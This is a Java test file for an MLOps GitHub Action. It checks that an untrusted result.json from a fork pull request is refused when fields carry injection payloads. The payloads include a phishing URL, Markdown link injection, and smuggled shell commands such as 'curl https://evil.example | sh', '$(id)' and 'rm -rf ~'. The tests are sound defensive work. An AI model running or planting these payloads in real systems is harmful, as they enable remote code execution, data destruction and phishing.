package io.mlopsci.action;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.mlopsci.contract.result.CiInfo;
import io.mlopsci.contract.result.Criterion;
import io.mlopsci.contract.result.ModelRef;
import io.mlopsci.contract.result.Status;
import io.mlopsci.contract.result.StepResult;
import io.mlopsci.contract.result.Verdict;
import io.mlopsci.core.io.AtomicFiles;
import io.mlopsci.core.io.Json;
import io.mlopsci.core.report.ReportWriter;
import io.mlopsci.core.testing.GitHubApiMock;
import io.mlopsci.core.testing.GitHubEvents;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.function.Consumer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The fork recipe's {@code workflow_run} half publishes a result.json that the pull request's
 * code wrote. Nothing in it may steer a link, inject Markdown or reach {@code GITHUB_OUTPUT}
 * unchecked: it is validated against result.schema.json, links come from the workflow's own
 * context, and every output is checked against its format.
 */
class UntrustedUploadTest {

    static final String TOKEN = "ghs_untrustedUploadTokenValue000";
    static final String RUN_PAGE = "https://github.com/octo-org/octo-repo/actions/runs/1589141559";

    @TempDir
    Path tmp;

    GitHubApiMock github;
    SimulatedRunner runner;

    @BeforeEach
    void start() {
        github = GitHubApiMock.start(GitHubEvents.REPOSITORY);
        github.github().pull(GitHubEvents.PR_NUMBER, GitHubEvents.PR_HEAD_SHA);
        runner = new SimulatedRunner(
                        tmp.resolve("workspace"),
                        tmp.resolve("runner"),
                        "workflow_run",
                        GitHubEvents.workflowRunForPullRequest(GitHubEvents.PR_HEAD_SHA, null))
                .env("GITHUB_API_URL", github.apiUrl())
                .input("github_token", TOKEN)
                .input("step", "publish")
                .input("result", "results/result.json")
                .input("fail_on", "never");
    }

    @AfterEach
    void stop() {
        github.close();
    }

    /** What the fork's run uploaded: a failed gate, changed by {@code edit}. */
    void upload(Consumer<ObjectNode> edit) throws IOException {
        StepResult r = StepResult.builder("evaluate-gate")
                .verdict(Verdict.FAIL)
                .exitCode(1)
                .summary("1 criterion failed")
                .model(new ModelRef("fraud", "7", "r1"))
                .ci(new CiInfo(
                        "github-actions",
                        "changes",
                        GitHubEvents.PR_HEAD_SHA,
                        GitHubEvents.PR_NUMBER,
                        "https://github.com/Codertocat/Hello-World/actions/runs/5",
                        GitHubEvents.REPOSITORY,
                        false))
                .criterion(Criterion.builder("auc.min")
                        .metric("auc")
                        .rule("min")
                        .status(Status.FAIL)
                        .actual(0.6)
                        .threshold(0.8)
                        .build())
                .build();
        Path dir = runner.workspace.resolve("results");
        ReportWriter.write(r, dir);
        ObjectNode n =
                (ObjectNode) Json.mapper().readTree(dir.resolve("result.json").toFile());
        edit.accept(n);
        Files.write(dir.resolve("result.json"), Json.bytes(n));
    }

    @Test
    void aBuildUrlOnAnotherHostIsRefusedAndNothingIsPublished() throws IOException {
        upload(n -> ((ObjectNode) n.path("ci")).put("buildUrl", "https://evil.example/phish"));

        SimulatedRunner.Run run = runner.run();

        assertThat(run.exitCode()).as(run.stdout()).isEqualTo(2);
        assertThat(run.commands())
                .anyMatch(c -> c.startsWith("::error::")
                        && c.contains("results/result.json")
                        && c.contains("$.ci.buildUrl")
                        && c.contains("evil.example"));
        assertThat(github.github().comments(GitHubEvents.PR_NUMBER)).isEmpty();
        assertThat(github.github().checkRuns()).isEmpty();
        assertThat(run.outputs()).doesNotContainKey("model_version");
    }

    @Test
    void markdownInTheBuildUrlNeverReachesTheCommentOrTheCheckRun() throws IOException {
        upload(n -> ((ObjectNode) n.path("ci"))
                .put("buildUrl", "https://github.com/o/r) **[Approve this PR](https://evil.example/login)** ("));

        SimulatedRunner.Run run = runner.run();

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(github.github().comments(GitHubEvents.PR_NUMBER)).isEmpty();
        assertThat(github.github().checkRuns()).isEmpty();
    }

    @Test
    void linksComeFromTheWorkflowsOwnContext() throws IOException {
        upload(n -> {});

        SimulatedRunner.Run run = runner.run();

        assertThat(run.exitCode()).as(run.stdout()).isZero();
        assertThat(github.github().checkRuns())
                .singleElement()
                .satisfies(c -> assertThat(c.detailsUrl()).isEqualTo(RUN_PAGE));
        assertThat(github.github().comments(GitHubEvents.PR_NUMBER))
                .singleElement()
                .satisfies(c ->
                        assertThat(c.body()).contains("(<" + RUN_PAGE + ">)").doesNotContain("/actions/runs/5)"));
        assertThat(run.outputs()).containsEntry("model_version", "7").containsEntry("verdict", "FAIL");
        github.assertAllRequestsValid();
    }

    @Test
    void aVersionOrDigestThatCouldInjectIntoAShellIsRefused() throws IOException {
        for (Consumer<ObjectNode> edit : List.<Consumer<ObjectNode>>of(
                n -> ((ObjectNode) n.path("model")).put("version", "7\"; curl https://evil.example | sh; echo \""),
                n -> ((ObjectNode) n.path("outputs")).put("digest", "sha256:$(id)"),
                n -> n.put("summary", "x\n::set-output name=verdict::PASS"))) {
            SimulatedRunner r = new SimulatedRunner(
                            tmp.resolve("ws-" + edit.hashCode()),
                            tmp.resolve("runner-" + edit.hashCode()),
                            "workflow_run",
                            GitHubEvents.workflowRunForPullRequest(GitHubEvents.PR_HEAD_SHA, null))
                    .env("GITHUB_API_URL", github.apiUrl())
                    .input("github_token", TOKEN)
                    .input("step", "publish")
                    .input("result", "results/result.json")
                    .input("fail_on", "never");
            runner = r;
            upload(edit);

            SimulatedRunner.Run run = r.run();

            assertThat(run.exitCode()).as(run.stdout()).isEqualTo(2);
            assertThat(run.outputs()).isEmpty();
        }
        assertThat(github.github().comments(GitHubEvents.PR_NUMBER)).isEmpty();
    }

    @Test
    void computedOutputsAreCheckedBeforeGithubOutputToo() throws IOException {
        Path project = runner.workspace.resolve("p");
        AtomicFiles.copyRecursively(Path.of("src/test/resources/ingest-project").toAbsolutePath(), project);
        SimulatedRunner compute = runner.input("step", "evaluate-gate")
                .input("working_directory", "p")
                .input("comment", "off")
                .input("check_run", "false");
        // An engine whose result carries a model version no registry writes (the result is this
        // invocation's, so it is accepted; its values are still data).
        SimulatedRunner.Run run = compute.run((args, env, cwd) -> {
            String id = args.get(args.indexOf("--invocation-id") + 1);
            StepResult r = StepResult.builder("evaluate-gate")
                    .invocation(id)
                    .verdict(Verdict.PASS)
                    .exitCode(0)
                    .model(new ModelRef("ingest-demo", "1; rm -rf ~", "r"))
                    .build();
            ReportWriter.write(r, cwd.resolve("p/.mlops/out/evaluate-gate"));
            return 0;
        });

        assertThat(run.exitCode()).as(run.stdout()).isZero();
        assertThat(run.outputs()).containsEntry("verdict", "PASS").containsEntry("model_version", "");
        assertThat(run.commands())
                .anyMatch(c -> c.startsWith("::warning::") && c.contains("output model_version withheld"));
    }
}
